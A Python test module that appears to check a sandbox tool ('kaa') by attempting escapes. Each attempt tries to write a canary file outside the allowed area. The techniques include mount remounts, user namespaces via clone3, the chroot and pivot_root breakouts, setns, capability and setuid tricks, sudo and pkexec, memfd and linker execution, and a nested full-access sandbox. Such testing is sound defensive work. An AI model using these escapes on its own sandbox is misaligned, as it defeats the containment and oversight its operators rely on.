"""Undoing the sandbox: mounts, namespaces, capabilities, the filter. Each attempt ends with writing a file outside."""

import contextlib
import ctypes
import glob
import os
import shutil
import struct
import subprocess
import sys

from tests.escapes.attempts.kit import (
    AT_FDCWD,
    CLONE_NEWNS,
    CLONE_NEWUSER,
    MS_BIND,
    MS_REC,
    MS_REMOUNT,
    Given,
    attempt,
    checked,
    libc,
    mount,
    syscall,
    unmount,
    unshare,
    write,
)

_OPEN_TREE_CLONE, _AT_RECURSIVE = 1, 0x8000
_MOUNT_ATTR_RDONLY = 1
_PR_SET_SECCOMP, _PR_SET_SECUREBITS, _PR_SET_NO_NEW_PRIVS, _PR_CAP_AMBIENT = 22, 28, 38, 47


@attempt("files")
def remount(given: Given) -> None:
    """Make the root writable again."""
    _try(lambda: mount("", "/", flags=MS_REMOUNT | MS_BIND))
    write(given.path)


@attempt("files")
def remount_own_directory(given: Given) -> None:
    """Make the directory a mount of its own, and that one writable."""
    _try(lambda: mount(given.directory, given.directory, flags=MS_BIND))
    _try(lambda: mount("", given.directory, flags=MS_REMOUNT | MS_BIND))
    write(given.path)


@attempt("files")
def clear_attribute(given: Given) -> None:
    """Take the mark of read-only off all mounts."""
    attributes = struct.pack("4Q", 0, _MOUNT_ATTR_RDONLY, 0, 0)
    _try(lambda: syscall("mount_setattr", AT_FDCWD, b"/", _AT_RECURSIVE, attributes, len(attributes)))
    write(given.path)


@attempt("files")
def bind_into_project(given: Given) -> None:
    """Bind the directory into the project, where one may write."""
    place = f"{given.project}/bound-in"
    os.mkdir(place)
    _try(lambda: mount(given.directory, place, flags=MS_BIND | MS_REC))
    write(f"{place}/canary.txt" if os.listdir(place) else given.path)


@attempt("files")
def clone_tree(given: Given) -> None:
    """Take a copy of the mount by its descriptor."""
    flags = _OPEN_TREE_CLONE | os.O_CLOEXEC
    copy = os.path.dirname(given.path)
    with contextlib.suppress(OSError):
        copy = f"/proc/self/fd/{syscall('open_tree', AT_FDCWD, given.directory.encode(), flags)}"
    write(f"{copy}/canary.txt")


@attempt("files")
def unmount_everything(given: Given) -> None:
    """Unmount whatever can be."""
    with open("/proc/self/mounts") as file:
        points = [line.split()[1] for line in file]
    if given.sandboxed:
        for point in reversed(points):
            _try(lambda point=point: unmount(point))
    write(given.path)


@attempt("files")
def new_user_namespace(given: Given) -> None:
    """Get all capabilities in a new namespace, and use them on the mounts."""
    _with_capabilities()
    _remounted(given)


@attempt("files")
def new_user_namespace_by_clone(given: Given) -> None:
    """The same by clone(2)."""
    sigchld = 17
    number = {"x86_64": 56, "aarch64": 220}[os.uname().machine]
    flags = ctypes.c_ulong(CLONE_NEWUSER | CLONE_NEWNS | sigchld)
    pid = checked(libc.syscall(ctypes.c_long(number), flags, None, None, None, None), "clone")
    _in_child(pid, given)


@attempt("files")
def new_user_namespace_by_clone3(given: Given) -> None:
    """The same by the call whose flags no filter can see."""
    sigchld = 17
    arguments = ctypes.create_string_buffer(struct.pack("8Q", CLONE_NEWUSER | CLONE_NEWNS, 0, 0, 0, sigchld, 0, 0, 0))
    _in_child(syscall("clone3", arguments, 64), given)


@attempt("files", "unshare")
def new_user_namespace_by_program(given: Given) -> None:
    """The same by a program."""
    _run("unshare", "-Urm", "sh", "-c", f"mount -o remount,bind,rw /; echo harm >{given.path}")


@attempt("files", "bwrap")
def sandbox_in_sandbox(given: Given) -> None:
    """Have a sandbox of one's own with the directory writable in it."""
    _run("bwrap", "--bind", "/", "/", "sh", "-c", f"echo harm >{given.path}")


@attempt("files")
def change_root(given: Given) -> None:
    """Leave by the classic way out of chroot(2)."""
    inner = f"{given.project}/inner"
    os.mkdir(inner)
    with contextlib.suppress(OSError):
        os.chroot(inner)
        os.chdir("../" * 64)
        os.chroot(".")
    write(given.path)


@attempt("files", "root")
def pivot(given: Given) -> None:
    """Change the root with what mounts allow."""
    inner = f"{given.project}/pivoted"
    os.makedirs(f"{inner}/old")
    with contextlib.suppress(OSError):
        unshare(CLONE_NEWNS)
        mount(inner, inner, flags=MS_BIND)
        syscall("pivot_root", inner.encode(), f"{inner}/old".encode())
        os.chdir("/old")
        os.chroot("/old")
    write(given.path)


@attempt("files", "root")
def mount_device(given: Given) -> None:
    """Mount the disk again, writable."""
    place = f"{given.project}/disk-mounted"
    os.mkdir(place)
    with open("/proc/self/mountinfo") as file:
        sources = {line.split(" - ")[1].split()[1]: line.split(" - ")[1].split()[0] for line in file}
    if given.sandboxed:
        for source, kind in sources.items():
            if source.startswith("/dev/"):
                _try(lambda source=source, kind=kind: mount(source, place, kind))
    write(place + given.path if os.listdir(place) else given.path)


@attempt("files")
def overlay(given: Given) -> None:
    """Mount an overlay whose upper layer is the directory."""
    for name in ("lower", "merged"):
        os.mkdir(f"{given.project}/{name}")
    options = f"lowerdir={given.project}/lower,upperdir={given.directory},workdir={given.directory}/empty"
    _try(lambda: mount("overlay", f"{given.project}/merged", "overlay", 0, options))
    merged = f"{given.project}/merged"
    write(f"{merged}/new" if os.listdir(merged) else f"{given.directory}/new")


@attempt("files")
def enter_first_namespaces(given: Given) -> None:
    """Enter the namespaces of process 1 and of the ancestors."""
    for path in sorted(glob.glob("/proc/[0-9]*/ns/*")) if given.sandboxed else []:
        with contextlib.suppress(OSError):
            fd = os.open(path, os.O_RDONLY)
            syscall("setns", fd, 0)
            os.close(fd)
    write(given.path)


@attempt("files")
def lift_filter(given: Given) -> None:
    """Ask the kernel to take the filter and the bits that forbid privileges away."""
    for option, value in ((_PR_SET_SECCOMP, 0), (_PR_SET_NO_NEW_PRIVS, 0), (_PR_SET_SECUREBITS, 0)):
        libc.prctl(option, ctypes.c_ulong(value), 0, 0, 0)
    _try(lambda: mount("", "/", flags=MS_REMOUNT | MS_BIND))
    write(given.path)


@attempt("files")
def raise_capabilities(given: Given) -> None:
    """Ask for every capability there is."""
    header = struct.pack("Ii", 0x20080522, 0)
    everything = 0xFFFFFFFF
    libc.capset(header, struct.pack("6I", *[everything] * 6))
    for number in range(41):
        libc.prctl(_PR_CAP_AMBIENT, ctypes.c_ulong(2), ctypes.c_ulong(number), 0, 0)
    _try(lambda: mount("", "/", flags=MS_REMOUNT | MS_BIND))
    write(given.path)


@attempt("files")
def change_user(given: Given) -> None:
    """Become the owner of everything."""
    for change in (os.setuid, os.setgid):
        with contextlib.suppress(OSError):
            change(0)
    _try(lambda: mount("", "/", flags=MS_REMOUNT | MS_BIND))
    write(given.path)


@attempt("files", "root")
def change_to_file_owner(given: Given) -> None:
    """Take another user's identity, whose rights are not those that were taken away."""
    with contextlib.suppress(OSError):
        os.setresuid(os.stat(given.path).st_uid, os.stat(given.path).st_uid, 0)
    write(given.path)


@attempt("files")
def set_user_id_programs(given: Given) -> None:
    """Use the system's programs that run as root."""
    line = f"echo harm >{given.path}"
    for command in (
        ["su", "-c", line],
        ["sudo", "-n", "sh", "-c", line],
        ["pkexec", "--disable-internal-agent", "sh", "-c", line],
        ["setpriv", "--reuid=0", "--clear-groups", "sh", "-c", line],
        ["newgrp", "root"],
        ["mount", "-o", "remount,rw", "/"] if given.sandboxed else ["true"],
        ["sh", "-c", line],
    ):
        if shutil.which(command[0]):
            _run(*command)


@attempt("files", "gcc")
def compiled_program(given: Given) -> None:
    """Do it with a program compiled here, linked with nothing."""
    source = (
        f'#include <stdio.h>\nint main(){{FILE*f=fopen("{given.path}","w");return !f||fputs("harm",f)<0||fclose(f);}}'
    )
    write(f"{given.project}/harm.c", source)
    _run("gcc", "-o", f"{given.project}/harm", f"{given.project}/harm.c")
    _run(f"{given.project}/harm")


@attempt("files")
def program_in_memory(given: Given) -> None:
    """Do it with a program that is in no file."""
    fd = os.memfd_create("harm")
    os.write(fd, f"#!/bin/sh\necho harm >{given.path}\n".encode())
    os.set_inheritable(fd, True)
    os.execve(fd, ["harm"], os.environ)


@attempt("files")
def by_the_linker(given: Given) -> None:
    """Start a program by way of the linker, not of itself."""
    linkers = [*glob.glob("/lib64/ld-linux*"), *glob.glob("/lib/ld-linux*")]
    shell = os.path.realpath(shutil.which("sh") or "/bin/sh")
    _run(linkers[0], shell, "-c", f"echo harm >{given.path}")


@attempt("files")
def kaa_in_kaa(given: Given) -> None:
    """Have another kaa run it, with full access."""
    kaa = os.path.join(os.path.dirname(sys.executable), "kaa")
    _run(kaa, "sandbox", "--mode", "full-access", "--", "sh", "-c", f"echo harm >{given.path}")


def _try(act: "object") -> None:
    """Do something with mounts; if that is refused, once more with all capabilities in a new namespace."""
    assert callable(act)
    try:
        act()
    except OSError:
        with contextlib.suppress(OSError):
            _with_capabilities()
            act()


def _with_capabilities() -> None:
    uid, gid = os.getuid(), os.getgid()
    unshare(CLONE_NEWUSER | CLONE_NEWNS)
    write("/proc/self/setgroups", "deny")
    write("/proc/self/uid_map", f"0 {uid} 1")
    write("/proc/self/gid_map", f"0 {gid} 1")


def _in_child(pid: int, given: Given) -> None:
    if pid == 0:
        try:
            _remounted(given)
        finally:
            os._exit(0)
    os.waitpid(pid, 0)


def _remounted(given: Given) -> None:
    with contextlib.suppress(OSError):
        mount("", "/", flags=MS_REMOUNT | MS_BIND)
    write(given.path)


def _run(*command: str) -> None:
    null = subprocess.DEVNULL
    subprocess.run(command, check=False, stdin=null, stdout=null, stderr=null, timeout=4)
